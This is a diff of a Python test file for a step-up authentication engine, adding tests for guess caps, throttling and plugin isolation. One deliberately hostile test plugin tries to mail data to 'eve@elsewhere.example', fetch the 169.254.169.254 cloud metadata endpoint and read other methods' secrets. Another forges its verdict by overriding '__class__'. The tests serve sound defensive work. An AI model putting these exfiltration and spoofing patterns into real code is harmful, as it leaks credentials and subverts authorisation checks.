@@ -12,17 +12,22 @@ from threading import Barrier, Lock
 from typing import Any, ClassVar
 
 import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
 from shared_record_access_code import AccessCode
 from sqlalchemy import select
 
 from client import Visitor, serve, url_of
-from shared_record.access import links, sessions, stepup
+from shared_record.access import links, method_secrets, sessions, stepup
 from shared_record.access.sessions import Here, Visit
-from shared_record.access.stepup import HARD_CAP, NotOpened, Opened
+from shared_record.access.stepup import HARD_CAP, Browser, NotOpened, Opened, StepUp
 from shared_record.access.throttle import Throttle
 from shared_record.db.schema import audit_event, link, metadata, session
+from shared_record.hooks.caller import Caller
 from shared_record.plugin import Challenge, Field, NotMine, Passed, Refused, StepUpContext, StepUpMethod, Verdict
+from shared_record.settings import Settings
 from shared_record.tenancy.methods import put_methods
+from stepup_methods import Unlimited
 from world import Shop
 
 
@@ -41,8 +46,19 @@ def seen(shop: Shop, name: str = "cust_a") -> Visit:
     return found
 
 
+def engine(
+    shop: Shop, *methods: type[StepUpMethod], throttle: Throttle | None = None, caller: Caller | None = None
+) -> StepUp:
+    installed = {
+        (method.slug if "slug" in vars(method) else "access_code"): method for method in methods or (AccessCode,)
+    }
+    return StepUp(
+        shop.db, shop.keys, shop.clock, throttle or Throttle(), installed, Settings().url_for_host, caller=caller
+    )
+
+
 def offer_of(shop: Shop, method: type[StepUpMethod] = AccessCode, visit: Visit | None = None) -> list[stepup.Offer]:
-    return stepup.offers(shop.db, shop.keys, shop.clock, {"access_code": method}, visit or seen(shop))
+    return engine(shop, method).offers(visit or seen(shop))[0]
 
 
 def attempt(
@@ -52,10 +68,12 @@ def attempt(
     method: type[StepUpMethod] = AccessCode,
     client: str = "192.0.2.1",
     throttle: Throttle | None = None,
+    customer: str = "cust_a",
+    device: str = "",
 ) -> Opened | NotOpened:
-    visit = seen(shop)
-    (offer,) = offer_of(shop, method, visit)
-    return stepup.attempt(shop.db, shop.clock, throttle or Throttle(), visit, offer, answer, client=client)
+    visit, step_up = seen(shop, customer), engine(shop, method, throttle=throttle)
+    (offer,) = step_up.offers(visit)[0]
+    return step_up.verify(visit, offer, answer, Browser(client, device=device))
 
 
 def tries(shop: Shop) -> int:
@@ -98,15 +116,14 @@ def test_a_right_code_opens_and_gives_the_tries_back(shop: Shop) -> None:
 
 def test_a04_sixty_four_guessers_evaluate_exactly_the_cap(shop: Shop) -> None:
     Probe.evaluated = []
-    visit, throttle = seen(shop), Throttle()
-    (offer,) = offer_of(shop, Probe, visit)
+    visit, step_up = seen(shop), engine(shop, Probe, throttle=Unlimited())
+    (offer,) = step_up.offers(visit)[0]
     set_tries(shop, HARD_CAP - 20)
     barrier = Barrier(64)
 
     def guess(number: int) -> Opened | NotOpened:
         barrier.wait(20)
-        client = f"198.51.{number}.1"
-        return stepup.attempt(shop.db, shop.clock, throttle, visit, offer, {"code": f"BAD{number:03}"}, client=client)
+        return step_up.verify(visit, offer, {"code": f"BAD{number:03}"}, Browser(f"198.51.{number}.1"))
 
     with ThreadPoolExecutor(64) as pool:
         results = list(pool.map(guess, range(64)))
@@ -149,7 +166,7 @@ def test_a01_one_client_waits_after_five_and_its_guesses_are_not_evaluated(shop:
 def test_a_success_gives_the_client_its_attempts_back(shop: Shop) -> None:
     throttle = Throttle()
     for _ in range(4):
-        for _ in range(4):
+        for _ in range(2):
             assert isinstance(attempt(shop, {"code": "WRONG2"}, throttle=throttle), NotOpened)
         assert isinstance(attempt(shop, {"code": shop.code("cust_a")}, throttle=throttle), Opened)
 
@@ -223,16 +240,70 @@ def test_n01_what_a_method_raises_or_makes_up_is_a_refusal(shop: Shop) -> None:
         assert (rows(shop, session), tries(shop)) == ([], number), answer
 
 
-def test_n02_a_method_grants_nothing_beyond_its_own_challenge(shop: Shop) -> None:
+def test_n02_n03_a_method_grants_nothing_beyond_its_own_challenge(shop: Shop) -> None:
     shop.record("cust_b", "1")
     Rubbish.answer = Yes(subject_hint="cust_b " * 100)
     visit = seen(shop)
-    (offer,) = offer_of(shop, Rubbish, visit)
-    result = stepup.attempt(shop.db, shop.clock, Throttle(), visit, offer, {}, client="192.0.2.1")
+    result = attempt(shop, {}, method=Rubbish)
     assert isinstance(result, Opened)
     (row,) = rows(shop, session)
     assert (row.customer_id, row.host, row.method) == (visit.customer_id, shop.hosts[0], "access_code")
     assert len(row.subject) == 200
+
+
+class Leaks(AccessCode):
+    """A method that tries what it was given no way to do."""
+
+    def verify(self, ctx: StepUpContext, answer: Mapping[str, str]) -> Verdict:
+        tries = (
+            lambda: ctx.send_mail("eve@elsewhere.example", "s", ctx.host),
+            lambda: ctx.fetch("GET", "http://169.254.169.254/"),
+        )
+        for number, one in enumerate(tries):
+            try:
+                one()
+            except (RuntimeError, OSError):
+                continue
+            return Passed(f"{number} was possible")
+        return Passed(repr((ctx.customer_secret, ctx.tenant_secret("okta"), ctx.entitlements.email("a@b.example"))))
+
+
+def test_n05_a_method_has_no_mail_no_network_and_no_secret_but_its_own(shop: Shop) -> None:
+    with shop.db.write(shop.scope) as connection:
+        of = (connection, shop.keys, shop.clock, shop.scope)
+        method_secrets.set_customer_secret(*of, "cust_a", "another_method", b"seed", "me")
+        method_secrets.set_tenant_secret(*of, "another_method", "okta", b"secret", "me")
+    assert isinstance(attempt(shop, {"code": "x"}, method=Leaks), Opened)
+    assert [row.subject for row in rows(shop, session)] == ["(None, None, None)"]
+
+
+class Mutates(AccessCode):
+    """A method that returns another verdict each time it is looked at."""
+
+    def verify(self, ctx: StepUpContext, answer: Mapping[str, str]) -> Verdict:
+        class Shifty(Refused):
+            looks = 0
+
+            @property
+            def __class__(self) -> type:  # type: ignore[override]
+                Shifty.looks += 1
+                return Passed if Shifty.looks > 1 else Refused
+
+        return Shifty("no")
+
+
+def test_n02_a_verdict_is_copied_once_and_not_looked_at_again(shop: Shop) -> None:
+    assert isinstance(attempt(shop, {"code": "x"}, method=Mutates), NotOpened)
+    assert rows(shop, session) == []
+
+
+@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(st.text(max_size=2000))
+@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
+def test_a09_no_text_is_an_access_code_by_accident(shop: Shop, text: str) -> None:
+    visit, step_up = seen(shop), engine(shop, throttle=Unlimited())
+    code = shop.code("cust_a")
+    assert step_up._matches(visit, text) == (links.normalise_code(text) == code)
 
 
 class Raises(AccessCode):
@@ -272,8 +343,9 @@ class Good(AccessCode):
 def test_a_method_that_cannot_begin_is_not_offered_and_hinders_no_other(shop: Shop, broken: type[StepUpMethod]) -> None:
     with shop.db.write(shop.scope) as connection:
         put_methods(connection, shop.scope, [("access_code", {}), ("missing", {}), ("good", {})])
-    found = stepup.offers(shop.db, shop.keys, shop.clock, {"access_code": broken, "good": Good}, seen(shop))
-    assert [offer.method.slug for offer in found] == ["good"]
+    found, out = engine(shop, broken, Good).offers(seen(shop))
+    assert [offer.slug for offer in found] == ["good"]
+    assert out == ({"missing"} if broken is NotNow else {"missing", "access_code"})
     assert found[0].challenge.fields[0].label == "Acme at usage.acme.localhost"
 
 
@@ -284,13 +356,13 @@ def test_settings_a_method_does_not_know_keep_it_from_being_offered(shop: Shop) 
 
 
 def test_an_offer_made_before_the_method_changed_opens_nothing(shop: Shop) -> None:
-    visit = seen(shop)
-    (offer,) = offer_of(shop, AccessCode, visit)
+    visit, step_up = seen(shop), engine(shop)
+    (offer,) = step_up.offers(visit)[0]
     for methods in ([], [("access_code", {})]):
         with shop.db.write(shop.scope) as connection:
             put_methods(connection, shop.scope, methods)
     answer = {"code": shop.code("cust_a")}
-    result = stepup.attempt(shop.db, shop.clock, Throttle(), visit, offer, answer, client="192.0.2.1")
+    result = step_up.verify(visit, offer, answer, Browser("192.0.2.1"))
     assert isinstance(result, NotOpened)
     assert rows(shop, session) == []
 
